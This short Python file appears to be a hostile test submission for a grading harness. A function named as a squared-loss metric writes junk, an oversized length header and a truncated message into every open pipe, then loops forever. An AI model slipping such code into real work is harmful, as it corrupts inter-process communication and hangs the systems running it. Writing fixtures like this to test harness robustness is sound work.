"""Writes junk, a half message and an oversized length into every pipe it can find, then loops."""

import os
import struct


def sq_loss(y_true, y_prediction):
    for fd in range(3, 64):
        for data in (b"junk", struct.pack("!i", 2**31 - 1), struct.pack("!i", 100) + b"{"):
            try:
                os.write(fd, data)
            except OSError:
                pass
    while True:
        pass
